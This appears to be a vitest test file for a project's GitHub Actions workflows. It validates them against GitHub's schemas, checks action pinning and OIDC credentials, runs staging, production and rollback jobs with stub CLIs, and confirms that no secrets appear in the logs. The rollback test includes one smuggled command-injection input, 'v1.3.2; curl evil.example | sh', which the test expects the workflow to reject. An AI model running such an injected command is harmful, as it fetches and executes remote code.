import { execFile, execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { readdirSync, readFileSync, statSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { createRequire } from "node:module";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from "vitest";
import { type Gateway, startGateway } from "../packages/local/src/gateway";
import { connectMysql, mysqlTarget, query } from "../packages/local/src/mysql";
import { type DeployRequestScript, startStubs, type Stubs } from "./testing/cli-stubs";
import { root } from "./testing/root";
import { type JobRun, type RunOptions, readWorkflow, runJob } from "./testing/workflow";

/**
 * The GitHub Actions workflows, checked offline: first against GitHub's workflow and action
 * schemas (action-validator, compiled to WebAssembly in its npm package), then run, step by
 * step, with stub `pscale`, `sst` and `aws` commands on PATH (infra/testing/cli-stubs.ts) and
 * real everything else: the repository's scripts, `pnpm db:check`, `db:migrate` and `db:seed`
 * against PlanetScale branches served over HTTPS, and the smoke test against the API served by
 * the local gateway. A step that would fail in GitHub fails here.
 */

interface ValidationState {
  errors: unknown[];
}
const validator = createRequire(import.meta.url)("@action-validator/core") as {
  validateWorkflow(source: string): ValidationState;
  validateAction(source: string): ValidationState;
};

const github = join(root, ".github");
const read = (path: string) => readFileSync(join(github, path), "utf8");
const workflows = readdirSync(join(github, "workflows")).filter((file) => /\.ya?ml$/.test(file));
const actions = readdirSync(join(github, "actions")).map((name) => `actions/${name}/action.yml`);

describe(".github, as GitHub reads it", () => {
  it("has the pull request, staging, production and rollback workflows", () => {
    expect(workflows.sort()).toEqual(["production.yml", "pull-request.yml", "rollback.yml", "staging.yml"]);
  });

  it.each(workflows)("workflows/%s is a valid workflow", (file) => {
    expect(validator.validateWorkflow(read(`workflows/${file}`)).errors).toEqual([]);
  });

  it.each(actions)("%s is a valid action", (path) => {
    expect(validator.validateAction(read(path)).errors).toEqual([]);
  });

  it("refuses a workflow with a mistake in it (the validator really checks)", () => {
    const broken = read("workflows/staging.yml").replace("runs-on:", "run-on:");
    expect(validator.validateWorkflow(broken).errors).not.toEqual([]);
  });

  it("pins every action it runs to a commit, and the PlanetScale CLI to a version", () => {
    const sources = [...workflows.map((file) => read(`workflows/${file}`)), ...actions.map(read)];
    const uses = sources.flatMap((text) => [...text.matchAll(/uses:\s*(\S+)/g)].map((match) => match[1]!));
    expect(uses.length).toBeGreaterThan(0);
    for (const action of uses.filter((name) => !name.startsWith("./"))) expect(action).toMatch(/@[0-9a-f]{40}$/);
    for (const text of sources.filter((source) => source.includes("setup-pscale-action"))) {
      expect(text).toMatch(/setup-pscale-action@[0-9a-f]{40} # v1\n\s+with:\n\s+version: v\d+\.\d+\.\d+/);
    }
  });

  it("runs CI on the Lambdas' Node (24), within 15 minutes", () => {
    expect(read("actions/setup/action.yml")).toMatch(/node-version: 24\b/);
    expect(readWorkflow("pull-request.yml").jobs.test!).toMatchObject({ "timeout-minutes": 15 });
  });

  it("reaches AWS only by an OIDC role and PlanetScale only by service tokens from secrets", () => {
    for (const file of workflows) {
      const text = read(`workflows/${file}`);
      expect(text, file).not.toMatch(/aws-access-key-id|aws-secret-access-key|AWS_SECRET_ACCESS_KEY/i);
      if (!/configure-aws-credentials/.test(text)) continue;
      expect(text, file).toMatch(/role-to-assume: \$\{\{ secrets\.AWS_DEPLOY_ROLE_ARN \}\}/);
      expect(text, file).toMatch(/id-token: write/);
      if (/pscale/.test(text)) {
        expect(text, file).toMatch(/PLANETSCALE_SERVICE_TOKEN: \$\{\{ secrets\.PLANETSCALE_SERVICE_TOKEN \}\}/);
      }
    }
  });

  it("runs only scripts that exist and are executable", () => {
    const scripts = workflows.flatMap((file) =>
      [...read(`workflows/${file}`).matchAll(/\.github\/(scripts\/[\w.-]+)/g)].map((match) => match[1]!),
    );
    expect(scripts.length).toBeGreaterThan(0);
    for (const script of scripts) expect(statSync(join(github, script)).mode & 0o111, script).not.toBe(0);
  });
});

// ---------------------------------------------------------------------------------------------

const secrets = {
  AWS_DEPLOY_ROLE_ARN: "arn:aws:iam::123456789012:role/gogh-deploy",
  PLANETSCALE_SERVICE_TOKEN_ID: "svc-token-id-7f3a",
  PLANETSCALE_SERVICE_TOKEN: "pscale_tkn_secret_value_never_printed",
};
const vars = {
  AWS_REGION: "ap-northeast-1",
  PLANETSCALE_ORG: "gogh-org",
  PLANETSCALE_DATABASE: "gogh",
  GOGH_CORS_ORIGINS: "https://app.gogh.example",
  GOGH_ADMIN_ALLOWED_IPS: "203.0.113.7",
};
const sha = execFileSync("git", ["rev-parse", "HEAD"], { cwd: root }).toString().trim();

/** A deploy request that takes its time, well past `--wait`'s five minutes, and waits at a gated cutover. */
const slowGatedDeploy: DeployRequestScript = {
  checks: ["pending", "pending", "ready"],
  // 31 checks in progress: at the workflow's 10 s between checks, past the five minutes `--wait` gives.
  deploying: ["submitting", "queued", ...Array<string>(31).fill("in_progress"), "pending_cutover"],
  cutover: ["in_progress_cutover", "complete_pending_revert"],
};

let gateway: Gateway;
let stubs: Stubs | undefined;

beforeAll(async () => {
  gateway = await startGateway();
}, 60_000);
afterAll(() => gateway.close());
afterEach(async () => {
  await stubs?.close();
  stubs = undefined;
});

async function startStubsWith(deployRequest: DeployRequestScript, api = gateway.url): Promise<Stubs> {
  stubs = await startStubs({
    databasePrefix: `${inject("databasePrefix")}${randomBytes(3).toString("hex")}_`,
    organization: vars.PLANETSCALE_ORG,
    database: vars.PLANETSCALE_DATABASE,
    branches: ["main", "staging"],
    deployRequest,
    outputs: { api, admin: "https://admin.example.test", cdn: "https://cdn.example.test" },
  });
  return stubs;
}

async function runWith(file: string, event: RunOptions["event"]): Promise<JobRun> {
  const { bin, url, caFile } = await startStubsWith(slowGatedDeploy);
  return runJob(file, {
    event,
    secrets,
    vars,
    path: [bin],
    // What the machine brings: the stubs' address, a CA that trusts the fake PlanetScale, no waiting.
    machineEnv: { GOGH_STUB_URL: url, NODE_EXTRA_CA_CERTS: caFile, DEPLOY_WAIT_SECONDS: "0" },
  });
}

/** One of .github/scripts, run with the stubs (when started) first on PATH. */
function runScript(name: string, args: string[], env: Record<string, string> = {}) {
  const path = [stubs?.bin, process.env.PATH].filter(Boolean).join(":");
  return new Promise<{ status: number; stdout: string; stderr: string }>((resolve) => {
    execFile(
      join(github, "scripts", name),
      args,
      { env: { PATH: path, GOGH_STUB_URL: stubs?.url ?? "", ...env } },
      (error, stdout, stderr) => resolve({ status: error ? Number(error.code ?? 1) : 0, stdout, stderr }),
    );
  });
}

const failedStep = (run: JobRun) => run.steps.find((step) => !step.skipped && step.exitCode !== 0)?.name;
const ranSteps = (run: JobRun) => run.steps.filter((step) => !step.skipped).map((step) => step.name);
const pscaleCalls = () =>
  stubs!.calls.filter((call) => call.tool === "pscale").map((call) => call.args.slice(0, 2).join(" "));

/** Nothing secret in any step's output, except in the mask commands that hide it; every password masked. */
function expectNoSecretInLogs(run: JobRun) {
  const values = [...Object.values(secrets).slice(1), ...stubs!.passwords.map((entry) => entry.password)];
  for (const step of run.steps) {
    const shown = `${step.stdout}\n${step.stderr}`
      .split("\n")
      .filter((line) => !line.startsWith("::add-mask::"))
      .join("\n");
    for (const value of values) expect(shown, step.name).not.toContain(value);
  }
  for (const { password } of stubs!.passwords) expect(run.masks).toContain(password);
}

async function migrationsIn(database: string): Promise<string[]> {
  const connection = await connectMysql(mysqlTarget(), { database });
  try {
    const rows = (await query(connection, "SELECT name FROM kysely_migration ORDER BY name")) as { name: string }[];
    return rows.map((row) => row.name);
  } finally {
    connection.end(() => {});
  }
}

const repositoryMigrations = () =>
  readdirSync(join(root, "packages/core/src/db/migrations"))
    .filter((file) => /^\d.*\.ts$/.test(file) && !file.endsWith(".test.ts"))
    .map((file) => file.replace(/\.ts$/, ""))
    .sort();

describe("staging.yml, run with stub CLIs", () => {
  it("migrates and seeds the staging branch over HTTPS, deploys staging, and smoke-tests the deployed API", async () => {
    const run = await runWith("staging.yml", { name: "push", ref: "refs/heads/main", sha });
    expect(failedStep(run), run.steps.map((step) => step.stderr).join("\n")).toBeUndefined();
    expect(run.succeeded).toBe(true);
    expect(await migrationsIn(stubs!.databaseOf("staging"))).toEqual(repositoryMigrations());
    // A password per task, short-lived: DDL for the migration (admin), on the staging branch only.
    expect(stubs!.passwords.map(({ branch, role, ttl }) => [branch, role, ttl])).toEqual([
      ["staging", "admin", "3600"],
    ]);
    const deploy = stubs!.calls.find((call) => call.tool === "sst")!;
    expect(deploy.args).toEqual(["deploy", "--stage", "staging"]);
    expect(deploy.env).toMatchObject({ AWS_REGION: "ap-northeast-1", GOGH_CORS_ORIGINS: vars.GOGH_CORS_ORIGINS });
    expect(run.steps.at(-1)!.stdout).toContain(`Smoke test passed: ${gateway.url}`);
    expectNoSecretInLogs(run);
  }, 300_000);
});

describe("production.yml, run with stub CLIs", () => {
  const release = { name: "push", ref: "refs/tags/v1.4.0", sha } as const;

  it("deploys exactly the release's schema, waits until PlanetScale has applied it, then ships the code and smoke-tests it", async () => {
    const run = await runWith("production.yml", release);
    expect(failedStep(run), run.steps.map((step) => step.stderr).join("\n")).toBeUndefined();
    // The release's own branch, made from production and migrated with this checkout's migrations.
    expect(pscaleCalls()).toContain("branch create");
    const created = stubs!.calls.find((call) => call.args[0] === "branch" && call.args[1] === "create")!;
    expect(created.args.slice(2, 4)).toEqual(["gogh", "release-v1-4-0"]);
    expect(created.args).toEqual(expect.arrayContaining(["--from", "main"]));
    expect(stubs!.calls.some((call) => call.args.includes("staging"))).toBe(false);
    const requested = stubs!.calls.find((call) => call.args[0] === "deploy-request" && call.args[1] === "create")!;
    expect(requested.args.slice(2, 4)).toEqual(["gogh", "release-v1-4-0"]);
    expect(requested.args).toEqual(expect.arrayContaining(["--into", "main", "--notes", "v1.4.0"]));
    // Waited through the whole deployment, applied the gated cutover, and only then deployed the code.
    const order = stubs!.calls.map((call) => (call.tool === "sst" ? "sst deploy" : call.args.slice(0, 2).join(" ")));
    const shows = order.filter((call) => call === "deploy-request show").length;
    expect(shows).toBeGreaterThan(slowGatedDeploy.deploying.length);
    expect(order.indexOf("deploy-request apply")).toBeGreaterThan(order.indexOf("deploy-request deploy"));
    expect(order.lastIndexOf("deploy-request show")).toBeLessThan(order.indexOf("sst deploy"));
    expect(run.outputs.schema).toMatchObject({ number: "1", state: "complete_pending_revert" });
    expect(run.summary).toContain("pscale deploy-request revert gogh 1");
    // Migrations on the release branch (DDL, admin); master data on production (readwriter).
    expect(stubs!.passwords.map(({ branch, role }) => [branch, role])).toEqual([
      ["release-v1-4-0", "admin"],
      ["main", "readwriter"],
    ]);
    expect(stubs!.calls.find((call) => call.tool === "sst")!.args).toEqual(["deploy", "--stage", "production"]);
    expect(run.steps.find((step) => step.name === "Smoke test")!.stdout).toContain("Smoke test passed");
    // The release branch is removed afterwards.
    expect(order.at(-1)).toBe("branch delete");
    expectNoSecretInLogs(run);
  }, 300_000);

  it("ships no code when the deploy request fails", async () => {
    // The schema step's script on its own fails at the error state...
    await startStubsWith({ ...slowGatedDeploy, deploying: ["queued", "in_progress", "complete_error"] });
    const result = await runScript("deploy-schema.sh", ["gogh", "staging", "main", "v1.4.0"], {
      PLANETSCALE_ORG: vars.PLANETSCALE_ORG,
      PLANETSCALE_SERVICE_TOKEN_ID: secrets.PLANETSCALE_SERVICE_TOKEN_ID,
      PLANETSCALE_SERVICE_TOKEN: secrets.PLANETSCALE_SERVICE_TOKEN,
      DEPLOY_WAIT_SECONDS: "0",
    });
    expect(result.status).toBe(1);
    expect(result.stderr).toContain("stopped at 'complete_error'; the code is not deployed");
    // ...and in the workflow the code's deploy comes after it, with nothing but the clean-up
    // running after a failed step (the runner skips the rest, as the tag test shows).
    const steps = readWorkflow("production.yml").jobs.release!.steps;
    const schema = steps.findIndex((step) => step.id === "schema");
    expect(schema).toBeGreaterThan(-1);
    expect(steps.findIndex((step) => step.name === "Deploy production")).toBeGreaterThan(schema);
    expect(steps.filter((step) => step.if).map((step) => step.name)).toEqual(["Remove the release branch"]);
  });

  it("refuses to run on anything but a release tag", async () => {
    const run = await runWith("production.yml", { name: "workflow_dispatch", ref: "refs/heads/main", sha });
    expect(failedStep(run)).toBe("Release tag");
    expect(stubs!.calls).toEqual([]);
  }, 60_000);
});

describe("rollback.yml, run with stub CLIs", () => {
  it("redeploys the tag's code to production without touching the schema, then smoke-tests it", async () => {
    const run = await runWith("rollback.yml", {
      name: "workflow_dispatch",
      ref: "refs/heads/main",
      sha,
      inputs: { tag: "v1.3.2" },
    });
    expect(failedStep(run)).toBeUndefined();
    expect(run.steps.find((step) => step.uses?.startsWith("actions/checkout"))!.with).toMatchObject({
      ref: "refs/tags/v1.3.2",
    });
    expect(stubs!.calls.map((call) => [call.tool, ...call.args])).toEqual([["sst", "deploy", "--stage", "production"]]);
    expect(run.steps.at(-1)!.stdout).toContain("Smoke test passed");
  }, 120_000);

  it("refuses an input that is not a release tag, before anything runs", async () => {
    const run = await runWith("rollback.yml", {
      name: "workflow_dispatch",
      ref: "refs/heads/main",
      sha,
      inputs: { tag: "v1.3.2; curl evil.example | sh" },
    });
    expect(failedStep(run)).toBe("Release tag");
    expect(stubs!.calls).toEqual([]);
  }, 60_000);
});

describe(".github/scripts/smoke.sh", () => {
  it("fails a deploy whose API answers 5xx", async () => {
    const broken = createServer((_request, response) => {
      response.writeHead(502, { "content-type": "application/json" });
      response.end('{"message":"Internal Server Error"}');
    });
    await new Promise<void>((resolve) => broken.listen(0, "127.0.0.1", resolve));
    try {
      const url = `http://127.0.0.1:${(broken.address() as AddressInfo).port}`;
      // Without retries: each would wait (curl backs off), and the answer stays 502.
      const run = await runScript("smoke.sh", [url], { SMOKE_RETRIES: "0" });
      expect(run.status).toBe(1);
      expect(run.stderr).toContain("GET /v1/app/config answered 502");
    } finally {
      broken.close();
    }
  });

  it("passes the API the local gateway serves", async () => {
    const run = await runScript("smoke.sh", [gateway.url]);
    expect(run.stderr).toBe("");
    expect(run.stdout).toContain(`Smoke test passed: ${gateway.url}`);
  });
});
